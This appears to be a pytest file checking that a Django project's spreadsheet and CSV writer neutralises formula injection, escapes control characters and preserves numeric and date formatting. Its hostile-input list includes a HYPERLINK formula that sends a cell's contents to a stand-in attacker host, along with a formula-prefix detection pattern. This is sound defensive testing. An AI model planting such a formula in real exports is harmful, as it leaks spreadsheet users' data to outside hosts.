"""core.excel, the one writer of workbooks and CSVs (issue #12 deliverable 3, defect 4): text
that a spreadsheet would run as a formula is neutralised, characters XML 1.0 forbids are
escaped, and numbers, dates and the finance formatting stay as they were."""

import ast
import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.excel import (
    QTY_FORMAT,
    Column,
    csv_lines,
    sheet_write,
    text_safe,
    value_safe,
    workbook_new,
)
from tests.reports.conftest import assert_finance_format

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"x")', "+1", "-1+2", "@SUM(1)"]
# Every C0 control alone, in the middle of a value and before a formula, then U+FFFE/U+FFFF
# and a lone surrogate (what a JSON body's "\ud800" becomes).
CONTROLS = [chr(code) for code in range(0x20)]
HOSTILE = [
    *FORMULAS,
    "\t=1",
    "\r=1",
    "FE\x0b01",
    "\x0b=1",
    *CONTROLS,
    *(f"A{c}B" for c in CONTROLS),
    "A\ufffeB",
    "\uffff",
    "\ud800",
]


# Written out here, not imported from core.excel, so that narrowing the writer's own list
# fails these tests (OWASP CSV injection; XML 1.0's Char production).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def assert_cell_text_safe(text):
    assert not text.startswith(FORMULA_PREFIXES), repr(text)
    assert not NOT_XML.search(text), repr(text)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_neutralised(value):
    assert_cell_text_safe(text_safe(value))


def test_formulas_get_a_quote_and_controls_a_visible_escape():
    assert text_safe("=1+2") == "'=1+2"
    assert text_safe("\t=1") == "'\t=1"
    assert text_safe("FE\x0b01") == "FE\\x0b01"
    assert text_safe("\x0b=1") == "\\x0b=1"  # escaped first, so it never becomes "=1"
    assert text_safe("A\ufffe") == "A\\ufffe"
    assert text_safe("铝管 Ø25, 1-2") == "铝管 Ø25, 1-2"  # ordinary text untouched


def test_numbers_dates_and_lazy_text():
    moment = datetime(2026, 11, 3, 8, 30)
    for value in (Decimal("-1"), -1, -2.5, date(2026, 11, 3), moment, None, True):
        assert value_safe(value) == value and type(value_safe(value)) is type(value)
    assert value_safe(gettext_lazy("=lazy")) == "'=lazy"


def written(rows):
    columns = [
        Column("Text", 20),
        Column("When", 20, "yyyy-mm-dd hh:mm:ss"),
        Column("Quantity", 16, QTY_FORMAT, total=True),
    ]
    workbook = workbook_new()
    sheet_write(workbook, "Sheet", columns, rows)
    content = io.BytesIO()
    workbook.save(content)
    return load_workbook(io.BytesIO(content.getvalue()))["Sheet"]


def test_workbook_holds_no_formula_and_keeps_numbers_dates_and_format():
    moment = datetime(2026, 11, 3, 8, 30)
    sheet = written([(value, moment, Decimal("-1.5")) for value in HOSTILE])
    cells = list(sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1))
    assert len(cells) == len(HOSTILE)
    for text, when, quantity in cells:
        assert text.data_type == "s"
        assert_cell_text_safe(text.value)
        assert (when.value, when.is_date) == (moment, True)
        assert (quantity.data_type, quantity.value) == ("n", -1.5)
        assert quantity.number_format == QTY_FORMAT
    assert sheet.cell(sheet.max_row, 3).value == -1.5 * len(HOSTILE)
    assert_finance_format(sheet, ["Quantity"])


def test_rows_past_the_sheets_end_fail_the_export(monkeypatch):
    """Excel's last row (1,048,576 in a real sheet): past it XlsxWriter would drop rows
    silently, so the export fails with a message instead of handing out a cut ledger."""
    monkeypatch.setattr("core.excel.EXCEL_ROWS", 5)  # header + 3 rows + totals
    assert written([("a", None, Decimal(1))] * 3).max_row == 5
    with pytest.raises(ValueError, match="4 rows do not fit one sheet \\(3 at most\\)"):
        written([("a", None, Decimal(1))] * 4)


def test_csv_neutralises_text_and_leaves_numbers():
    text = "".join(csv_lines(["Text", "Quantity"], [(value, Decimal("-1")) for value in HOSTILE]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == ["Text", "Quantity"] and len(rows) == len(HOSTILE) + 1
    for value, quantity in rows[1:]:
        assert_cell_text_safe(value)
        assert quantity == "-1"


# The reader of uploaded workbooks; it writes none.
READERS = {"materials/importing/workbook.py"}


def spreadsheet_imports(path):
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        names = []
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.level == 0:
            names = [node.module or ""]
        yield from (n for n in names if n.split(".")[0] in ("csv", "openpyxl", "xlsxwriter"))


def test_core_excel_is_the_only_writer():
    """A new export that imports openpyxl or csv itself would skip the neutralising."""
    root = Path(settings.BASE_DIR)
    offenders = {}
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/")) or relative in READERS:
            continue
        if relative != "core/excel.py" and (found := list(spreadsheet_imports(path))):
            offenders[relative] = found
    assert offenders == {}
